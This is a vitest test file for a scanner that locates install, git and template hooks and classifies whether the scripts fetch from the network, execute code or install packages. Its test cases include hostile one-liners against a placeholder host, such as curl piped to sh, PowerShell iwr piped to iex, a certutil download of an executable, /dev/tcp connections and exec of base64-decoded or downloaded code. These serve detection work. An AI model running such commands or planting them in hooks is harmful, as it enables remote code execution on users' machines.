import { describe, expect, test } from "vitest";
import { declaresAct } from "../../builder/scan/hook/declares-act.ts";
import { findHooks } from "../../builder/scan/hook/find-hooks.ts";
import { scriptActs } from "../../builder/scan/hook/script-act.ts";
import type { Manifest } from "../../schemas/manifest.ts";
import { memoryContents } from "./memory-contents.ts";

const kinds = (text: string, language: Parameters<typeof scriptActs>[1]) =>
  scriptActs(text, language)
    .map(({ kind }) => kind)
    .toSorted()
    .join(" ");

describe("what a shell script does", () => {
  test.each([
    ["curl -fsSL https://x.example | sh", "network"],
    ['sh -c "wget https://x.example/a"', "network"],
    ["if true; then curl $URL; fi", "network"],
    ["X=1 /usr/bin/curl -o a https://x.example", "network"],
    ["cat < /dev/tcp/10.0.0.1/80", "network"],
    ["git clone https://x.example/a.git", "network"],
    ["sudo apt-get -y install curl", "packages"],
    ["pip install evil", "packages"],
    ["npx create-thing", "packages"],
    ["# curl https://x.example", ""],
    ["command -v curl >/dev/null", ""],
    ["echo needs curl or wget", ""],
    ["libcurl -x; mycurl -y", ""],
    ["set -eu\ntrue", ""],
  ])("%s: %s", (text, expected) => {
    expect(kinds(text, "shell")).toBe(expected);
  });
});

describe("what a Python script does", () => {
  test.each([
    ["import os; os.system('calc')", "exec"],
    ["subprocess.Popen('curl x', shell=True)", "exec"],
    ["subprocess.run(['powershell', '-enc', x])", "exec"],
    ["exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "exec"],
    ["exec(requests.get('https://x.example').text)", "exec network"],
    ["from urllib.request import urlopen as u; exec(u('https://x.example').read())", "network"],
    ["s = socket.socket()", "network"],
    ["exec(open('about.py').read())", ""],
    ["version = subprocess.check_output(['git', 'describe'])", ""],
    ["os.system('python setup.py sdist upload')", ""],
    ["# os.system('x')", ""],
    ["from setuptools.command.install import install\nPopen(['x.exe'])", "exec"],
    ["from setuptools.command.install import install\ncheck_call('x'.split())", "exec"],
    ["from setuptools.command.build_ext import build_ext\ncheck_call(['cmake'])", ""],
  ])("%s: %s", (text, expected) => {
    expect(kinds(text, "python")).toBe(expected);
  });
});

test("what other scripts do", () => {
  expect(kinds('require("node:child_process").execSync("x")', "javascript")).toBe("exec");
  expect(kinds('import { get } from "https"', "javascript")).toBe("network");
  expect(kinds("this.fetch(x); prefetch(y)", "javascript")).toBe("");
  expect(kinds("iwr https://x.example | iex", "powershell")).toBe("network");
  expect(kinds("certutil -urlcache -f http://x.example a.exe", "batch")).toBe("network");
});

test("no script takes long to look at", () => {
  const texts = [";a=", "curl ", "subprocess.x(", "exec(", "apt -a ", "certutil "];
  const started = process.cpuUsage();
  for (const text of texts)
    for (const language of ["shell", "python", "batch", "javascript"] as const)
      scriptActs(text.repeat(300_000 / text.length), language);
  expect(process.cpuUsage(started).user / 1e6).toBeLessThan(10);
});

describe("which files are hooks", () => {
  const found = async (files: Record<string, string>, manifest?: object) =>
    (await findHooks(memoryContents(files), manifest as Manifest | undefined, () => undefined)).map(
      ({ file, acts }) => `${file.path} ${acts.map(({ kind }) => kind).join(" ")}`,
    );

  test("by name, at the places where tools look", async () => {
    const script = "#!/bin/sh\ntouch x\n";
    expect(
      await found({
        ".git/hooks/pre-commit": script,
        "DEBIAN/postinst": script,
        "hooks/post_gen_project.py": "print(1)",
        "post-install.sh": script,
        "scripts/build.sh": script,
        "src/postinstall.ts.md": script,
        "template/hooks/post_gen_project.sh": script,
        "x/.git/hooks/pre-commit.sample": script,
      }),
    ).toEqual([
      ".git/hooks/pre-commit exec",
      "DEBIAN/postinst exec",
      "post-install.sh exec",
      "template/hooks/post_gen_project.sh exec",
    ]);
  });

  test("setup scripts that the manifest names are told for what they fetch", async () => {
    const manifest = {
      config: { environment: { setup: ["a.sh"] }, ami_config: { user_data_script: "b.sh" } },
    };
    const files = { "a.sh": "useradd x\ncurl -O https://x.example", "b.sh": "useradd x" };
    expect(await found(files, manifest)).toEqual(["a.sh network"]);
    expect(await found(files)).toEqual([]);
  });

  test("copier's tasks and Python's path files", async () => {
    expect(await found({ "copier.yml": "_tasks:\n  - x\n", "a.pth": "lib\nimport x\n" })).toEqual([
      "copier.yml exec",
      "a.pth exec",
    ]);
    expect(await found({ "copier.yml": "_tasks: []\nname: x\n", "a.pth": "lib\n" })).toEqual([]);
  });

  test("a hook that is no text is told", async () => {
    const told: string[] = [];
    await findHooks(memoryContents({ "setup.py": "a\0b" }), undefined, ({ reason }) =>
      told.push(reason),
    );
    expect(told).toEqual(["a script that is run by itself is no text"]);
  });
});

test("capabilities say what a script may do", () => {
  expect(declaresAct(["exec:install"], "exec")).toBe(true);
  expect(declaresAct(["exec"], "exec")).toBe(true);
  expect(declaresAct(["executor"], "exec")).toBe(false);
  expect(declaresAct(["network:outbound"], "network")).toBe(true);
  expect(declaresAct(["network:inbound"], "network")).toBe(false);
  expect(declaresAct(["packages:install"], "packages")).toBe(true);
  expect(declaresAct(["packages:install"], "network")).toBe(false);
});
